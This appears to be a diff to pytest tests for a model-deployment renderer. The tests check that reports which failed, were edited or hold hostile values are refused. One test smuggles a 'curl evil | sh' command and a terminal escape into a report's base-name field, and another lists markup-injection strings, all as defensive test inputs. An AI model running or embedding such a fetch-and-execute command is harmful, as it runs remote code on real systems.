@@ -14,7 +14,7 @@ from deployment import BASE, BASE_DIGEST, make_checkpoint, make_report, rendered
 from deploy import cli, render
 from deploy.spec import TARGETS
 from evalsuite.compare import NANO_NOTE
-from tune import artefact
+from tune import artefact, checkpoint
 from tune.errors import UserError
 from tune.recipe import Recipe, Serve
 
@@ -25,7 +25,7 @@ ROOT = Path(__file__).parent.parent
 def inputs(tmp_path):
     """Arguments of render.render that succeed."""
     made = make_checkpoint(tmp_path / "merged")
-    proof = make_report(tmp_path / "report.json", made.served_name)
+    proof = make_report(tmp_path / "report.json", made)
     return {"recipe": Recipe(), "checkpoint": made.folder, "report": proof, "out": tmp_path / "out"}
 
 
@@ -48,16 +48,16 @@ def test_no_report_no_render(inputs):
 
 @pytest.mark.parametrize("outcome", ["FAIL", "INCONCLUSIVE", "INVALID"])
 def test_only_a_pass_renders(inputs, outcome):
-    served = json.loads(inputs["report"].read_text())["tuned_model"]
-    make_report(inputs["report"], served, outcome)
+    made = checkpoint.read(inputs["checkpoint"])
+    make_report(inputs["report"], made, outcome)
     message = refusal(inputs)
     assert f"says {outcome}" in message
     assert "why: " in message
 
 
 def test_a_report_edited_into_a_pass_is_refused(inputs):
-    served = json.loads(inputs["report"].read_text())["tuned_model"]
-    make_report(inputs["report"], served, "FAIL")
+    made = checkpoint.read(inputs["checkpoint"])
+    make_report(inputs["report"], made, "FAIL")
     inputs["report"].write_text(inputs["report"].read_text().replace('"FAIL"', '"PASS"'))
     assert "changed after it was written" in refusal(inputs)
 
@@ -69,15 +69,15 @@ def test_a_report_cut_short_is_refused(inputs):
 
 def test_a_report_about_another_checkpoint_is_refused(inputs, tmp_path):
     other = make_checkpoint(tmp_path / "other", name="another")
-    make_report(inputs["report"], other.served_name)
+    make_report(inputs["report"], other)
     message = refusal(inputs)
     assert other.served_name in message
     assert "is about" in message
 
 
 def test_a_report_against_another_base_is_refused(inputs):
-    served = json.loads(inputs["report"].read_text())["tuned_model"]
-    make_report(inputs["report"], served, base="gpt-oss-20b@fedcba9876543210")
+    made = checkpoint.read(inputs["checkpoint"])
+    make_report(inputs["report"], made, base="gpt-oss-20b@fedcba9876543210")
     message = refusal(inputs)
     assert "was measured against 'gpt-oss-20b@fedcba9876543210', not against the base" in message
     assert BASE in message
@@ -97,7 +97,7 @@ def test_a_report_against_another_base_is_refused(inputs):
 @pytest.mark.parametrize("base_digest", ["6cee5e81ee83917181" + "0" * 22, ""])
 def test_a_base_from_the_hub_is_known_by_its_name_alone(tmp_path, inputs, served, known, base_digest):
     made = make_checkpoint(tmp_path / "hub", base="openai/gpt-oss-20b@6cee5e81ee839171", base_digest=base_digest)
-    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "h.json", made.served_name, base=served)}
+    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "h.json", made, base=served)}
     if not known:
         assert "not against the base" in refusal(inputs)
         return
@@ -107,7 +107,7 @@ def test_a_base_from_the_hub_is_known_by_its_name_alone(tmp_path, inputs, served
 
 def test_a_checkpoint_of_no_base_is_refused(tmp_path, inputs):
     made = make_checkpoint(tmp_path / "nano", base="", base_digest="")
-    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "n.json", made.served_name, base="any")}
+    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "n.json", made, base="any")}
     assert "not against the base" in refusal(inputs)
 
 
@@ -134,7 +134,7 @@ def test_a_half_written_checkpoint_is_refused(inputs):
 
 def test_an_adapter_alone_is_refused(inputs, tmp_path):
     made = make_checkpoint(tmp_path / "lora", format="lora")
-    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "l.json", made.served_name)}
+    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "l.json", made)}
     assert "D003" in refusal(inputs)
 
 
@@ -143,17 +143,17 @@ def test_an_adapter_alone_is_refused(inputs, tmp_path):
 )
 def test_a_hostile_name_in_a_manifest_is_refused(inputs, tmp_path, name):
     made = make_checkpoint(tmp_path / "hostile", name=name)
-    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "h.json", made.served_name)}
+    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "h.json", made)}
     assert "D004" in refusal(inputs)
 
 
 def test_a_hostile_base_name_in_a_report_is_refused(inputs):
-    served = json.loads(inputs["report"].read_text())["tuned_model"]
-    make_report(inputs["report"], served, base=f"base`\n\n    curl evil | sh@{BASE_DIGEST[:16]}")
+    made = checkpoint.read(inputs["checkpoint"])
+    make_report(inputs["report"], made, base=f"base`\n\n    curl evil | sh@{BASE_DIGEST[:16]}")
     message = refusal(inputs)
     assert "not safe to render" in message
     assert "curl" not in message
-    make_report(inputs["report"], served, base="\x1b[2J")
+    make_report(inputs["report"], made, base="\x1b[2J")
     assert "\x1b" not in refusal(inputs)
 
 
@@ -185,23 +185,23 @@ def test_a_hostile_recipe_value_is_refused(tmp_path, key, value):
 
 @pytest.mark.parametrize("note", ["a | b", "a\nb", "`x`", "<script>", "[a](b)", "x" * 301])
 def test_a_hostile_note_in_a_report_is_refused(inputs, note):
-    served = json.loads(inputs["report"].read_text())["tuned_model"]
-    make_report(inputs["report"], served, note=note)
+    made = checkpoint.read(inputs["checkpoint"])
+    make_report(inputs["report"], made, note=note)
     assert "not safe to render" in refusal(inputs)
 
 
 def test_the_note_of_the_report_is_shown(inputs):
-    served = json.loads(inputs["report"].read_text())["tuned_model"]
+    made = checkpoint.read(inputs["checkpoint"])
     render.render("modal", **inputs)
     assert f"**{NANO_NOTE}** |" in (inputs["out"] / "README.md").read_text()
-    make_report(inputs["report"], served, note="")
+    make_report(inputs["report"], made, note="")
     render.render("modal", **inputs)
     assert "**" not in (inputs["out"] / "README.md").read_text().split("| engine")[0]
 
 
 def test_a_project_named_models_keeps_its_folder_in_the_volume(inputs, tmp_path):
     made = make_checkpoint(tmp_path / "models", name="models")
-    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "m.json", made.served_name)}
+    inputs |= {"checkpoint": made.folder, "report": make_report(tmp_path / "m.json", made)}
     deployment = render.render("modal", **inputs).deployment
     (put,) = [line for line in (inputs["out"] / "README.md").read_text().splitlines() if "volume put" in line]
     assert "/models" + put.split()[-1] == deployment.model_path
